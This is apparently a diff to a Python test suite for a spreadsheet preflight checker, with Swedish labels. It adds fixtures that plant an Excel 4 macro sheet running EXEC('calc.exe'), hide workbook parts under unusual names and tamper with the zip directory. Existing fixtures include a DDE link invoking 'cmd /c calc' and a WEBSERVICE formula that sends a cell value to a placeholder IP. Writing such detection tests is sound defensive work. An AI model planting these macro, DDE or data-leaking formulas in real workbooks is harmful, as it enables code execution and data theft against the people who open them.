@@ -206,6 +206,63 @@ def twice(name: str):
     return make
 
 
+def macro_sheet(book: Book) -> None:
+    """Lay a macro sheet where Excel does, listed among the sheets."""
+    book.flush()
+    book.opened.clear()
+    kind = "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet"
+    book.replace("xl/workbook.xml", ("</sheets>", '<sheet name="Makro1" sheetId="99" r:id="rIdM"/></sheets>'))
+    book.replace(
+        "xl/_rels/workbook.xml.rels",
+        (
+            "</Relationships>",
+            f'<Relationship Id="rIdM" Type="{kind}" Target="macrosheets/sheet1.xml"/></Relationships>',
+        ),
+    )
+    book.parts["xl/macrosheets/sheet1.xml"] = (
+        f'<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main" xmlns="{MAIN}"><sheetData>'
+        '<row r="1"><c r="A1"><f>EXEC("calc.exe")</f><v>0</v></c></row></sheetData></xm:macrosheet>'
+    ).encode()
+
+
+def texts_elsewhere(book: Book) -> None:
+    book.parts["xl/andra.dat"] = book.parts["xl/sharedStrings.xml"]
+    book.parts["xl/sharedStrings.xml"] = b"<sst/>"
+    book.replace("xl/_rels/workbook.xml.rels", ('Target="sharedStrings.xml"', 'Target="andra.dat"'))
+
+
+def sheet_elsewhere(book: Book) -> None:
+    """Lay answers of a stranger under the name that the sheet always has."""
+    name = book.where["Behov"]
+    book.flush()
+    book.opened.clear()
+    book.parts["xl/b.dat"] = book.parts[name]
+    book.parts[name] = (
+        book.parts[name].replace(b"</sheetData>", b'<row r="999999"/></sheetData>').replace(b"<v>", b"<v>9")
+    )
+    target = name.removeprefix("xl/")
+    book.replace("xl/_rels/workbook.xml.rels", (f'Target="{target}"', 'Target="b.dat"'))
+
+
+def two_lists(book: Book) -> Files:
+    """Call a part something else in the directory than where it lies."""
+    content = bytearray(book.bytes())
+    at = content.rindex(b"docProps/custom.xml")
+    content[at : at + 8] = b"dockProp"
+    return {BOOK: bytes(content)}
+
+
+def property_changed(book: Book) -> Files:
+    """Change a letter in the properties without packing them anew."""
+    stream = BytesIO()
+    with ZipFile(BytesIO(book.bytes())) as old, ZipFile(stream, "w") as new:
+        for name in old.namelist():
+            new.writestr(name, old.read(name))
+    changed = stream.getvalue().replace(b'name="kommunkod"', b'name="kommunkop"')
+    assert changed != stream.getvalue()
+    return {BOOK: changed}
+
+
 def cut(book: Book) -> Files:
     return {BOOK: book.bytes()[:-5000]}
 
@@ -234,6 +291,11 @@ PREFLIGHT = (
     Odd("Bladet säger sig vara så stort som det kan bli", dimension),
     Odd("Boken har makron", macros, {"bok.xlsm": ("upplysning makron",)}, {"bok.xlsm": IN}),
     Odd("Boken har ett makroblad från Excel 4", part("xl/macrosheets/sheet1.xml", f'<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main" xmlns="{MAIN}"><sheetData/></xm:macrosheet>'), ("upplysning makron",)),
+    Odd("Boken har ett riktigt makroblad från Excel 4, bland sina blad", macro_sheet, ("upplysning makron",)),
+    Odd("Boken har sina texter i en del med ett eget namn", texts_elsewhere),
+    Odd("Boken har ett blad i en del med ett eget namn, och ett annat under det vanliga", sheet_elsewhere),
+    Odd("Arkivets två förteckningar över boken säger olika", two_lists, ("fel skadad",), counted=False),
+    Odd("Egenskaperna har ändrats på vägen", property_changed, ("fel skadad",), counted=False),
     Odd("Ett värde hämtas ur en annan bok", external_value, ("upplysning lank-till-annan-bok", "fråga varde-ur-annan-bok Roller!H6"), rows={"roles R-002": {"authority": "Hämtat ur annan.xlsx"}}, never=("C:/Chefen",)),
     Odd("Boken frågar ett annat program (DDE)", part("xl/externalLinks/externalLink1.xml", f'<externalLink xmlns="{MAIN}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'), ("fråga dde",)),
     Odd("En cell hämtar sitt värde från webben", lambda book: book.set("Roller!H6", Formula('_xlfn.WEBSERVICE("http://192.0.2.1/?"&A1)', "Från webben")), ("fråga varde-ur-annan-bok Roller!H6",), rows={"roles R-002": {"authority": "Från webben"}}),
